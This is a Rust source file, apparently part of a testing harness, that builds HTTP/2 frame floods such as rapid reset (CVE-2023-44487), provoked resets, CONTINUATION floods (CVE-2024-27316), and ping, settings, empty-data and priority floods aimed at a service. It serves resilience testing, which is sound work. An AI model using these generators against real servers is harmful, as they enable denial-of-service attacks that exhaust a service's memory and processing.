//! Floods of frames that cost the client little, and the service an answer or memory.

use super::request_frames;
use crate::hostile::{
    frames::{self, ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS},
    generator::Kind,
    script::Draft,
};

pub const KINDS: &[Kind] = &[
    ("2 preface and no more", preface),
    ("2 settings", settings),
    ("2 pings", pings),
    ("2 rapid reset", rapid_reset),
    ("2 provoked resets", provoked_resets),
    ("2 continuations", continuations),
    ("2 empty data", empty_data),
    ("2 priorities", priorities),
    ("2 unknown frames", unknown),
    ("2 mixed frames", mixed),
];

fn preface(draft: &mut Draft<'_>) {
    let length = if draft.rng.bool() { PREFACE.len() } else { draft.rng.usize(1..PREFACE.len()) };
    draft.send(&PREFACE[..length]);
    draft.pause(2500);
}

fn settings(draft: &mut Draft<'_>) {
    draft.send(PREFACE);
    let count = draft.rng.usize(100..5000);
    let one = match draft.rng.u8(..3) {
        0 => frames::settings(&[]),
        1 => frames::settings(&[(1, 0), (1, 4096), (4, 0), (4, 65_535), (5, 16_384)]),
        _ => frames::frame(SETTINGS, ACK, 0, b""),
    };
    draft.send(one.repeat(count));
    draft.pause(500);
}

fn pings(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u64(100..10_000);
    let pings: Vec<u8> = (0..count).flat_map(frames::ping).collect();
    draft.send(pings);
    draft.pause(500);
}

/// CVE-2023-44487.
fn rapid_reset(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u32(100..2000);
    let request = draft.request();
    draft.send_each(count, |_, stream| [request_frames(stream, &request), frames::reset(stream, CANCEL)].concat());
    draft.pause(500);
}

/// Errors for which the service has to reset streams ("MadeYouReset").
fn provoked_resets(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u32(100..2000);
    let request = draft.request();
    let fault = draft.rng.u8(..3);
    draft.send_each(count, |_, stream| {
        let fault = match fault {
            0 => frames::window_update(stream, 0),
            1 => frames::priority(stream, stream, 1),
            _ => frames::frame(DATA, 0, stream, b"late"),
        };
        [request_frames(stream, &request), fault].concat()
    });
    draft.pause(500);
}

/// CVE-2024-27316: an endless header block.
fn continuations(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let fields = draft.request().fields();
    draft.send(frames::frame(HEADERS, 0, 1, &frames::packed(&fields)));
    let count = draft.rng.usize(1..2000);
    let payload = match draft.rng.u8(..3) {
        0 => Vec::new(),
        1 => frames::packed(&[("x".to_owned(), "y".to_owned())]),
        _ => frames::packed(&[("x-a".to_owned(), "y".repeat(draft.rng.usize(100..10_000)))]),
    };
    let all = frames::frame(CONTINUATION, 0, 1, &payload).repeat(count.min(1 + 4_000_000 / (payload.len() + 9)));
    draft.send(all);
    if draft.rng.bool() {
        draft.send(frames::frame(CONTINUATION, END_HEADERS, 1, b""));
    }
    draft.pause(1000);
}

fn empty_data(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let fields = draft.upload().fields();
    draft.send(frames::frame(HEADERS, END_HEADERS, 1, &frames::packed(&fields)));
    let count = draft.rng.usize(100..10_000);
    let padded = draft.rng.bool();
    let empty = if padded {
        frames::frame(DATA, frames::PADDED, 1, &[5, 0, 0, 0, 0, 0])
    } else {
        frames::frame(DATA, 0, 1, b"")
    };
    draft.send(empty.repeat(count));
    draft.pause(1000);
}

/// Circular dependencies, and dependencies on streams that are never opened.
fn priorities(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u32(100..5000);
    draft.send_each(count, |draft, stream| {
        let parent = draft.choice(&[stream, stream + 2, 1, 0, 0x8000_0000 | stream, 0x7fff_ffff]);
        frames::priority(stream, parent, draft.rng.u8(..))
    });
    let request = draft.request();
    draft.send(request_frames(count * 2 + 1, &request));
    draft.await_answer();
}

fn unknown(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u32(100..2000);
    draft.send_each(count, |draft, stream| {
        let noise = draft.noise(30);
        frames::frame(draft.rng.u8(10..), draft.rng.u8(..), draft.choice(&[0, stream]), &noise)
    });
    draft.await_answer();
}

fn mixed(draft: &mut Draft<'_>) {
    draft.greet(&[]);
    let count = draft.rng.u32(50..400);
    draft.send_each(count, |draft, stream| match draft.rng.u8(..7) {
        0 => frames::ping(u64::from(stream)),
        1 => frames::settings(&[(draft.rng.u16(..8), draft.rng.u32(..70_000))]),
        2 => frames::reset(draft.rng.u32(..=stream) | 1, draft.rng.u32(..20)),
        3 => frames::window_update(draft.choice(&[0, stream]), draft.rng.u32(1..1000)),
        4 => frames::priority(stream, draft.rng.u32(..=stream), 3),
        _ => request_frames(stream, &draft.request()),
    });
    draft.await_answer();
}
